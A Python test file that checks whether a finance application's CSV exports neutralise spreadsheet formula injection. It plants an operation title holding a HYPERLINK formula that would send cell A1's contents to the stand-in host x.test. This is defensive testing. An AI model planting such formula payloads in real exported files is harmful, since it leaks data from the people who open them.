"""The CSV files written outside `cper.io.writers` — `cper execution --format csv`, the
maquette's CSV — make formulas inert too."""

from __future__ import annotations

import csv
import datetime as dt
import io

from django.core.management import call_command

from cper.formulas import InertCsvWriter, restore
from tests.finance import factories as F

PLANTED = '=HYPERLINK("http://x.test/?leak="&A1,"Voir")'


def test_the_execution_command_csv_neutralises_a_planted_title(hdf):
    op = F.operation(hdf, code="F-INJ")
    op.title = PLANTED
    op.save(update_fields=["title"])
    line = F.line(op, "etat", "1000.00")
    F.record(line, "commitment", dt.date(2022, 4, 1), "100.00")
    out = io.StringIO()
    call_command("execution", hdf.slug, "--by", "operation", "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
    assert any(PLANTED in restore(c) for c in cells)  # the label carries it, inert


def test_the_inert_writer_leaves_numbers_and_neutralises_text():
    buffer = io.StringIO()
    InertCsvWriter(buffer, lineterminator="\n").writerow(["=1+1", "-12.50", "@SUM(A1)", 3, "Nord"])
    assert buffer.getvalue() == "'=1+1,-12.50,'@SUM(A1),3,Nord\n"
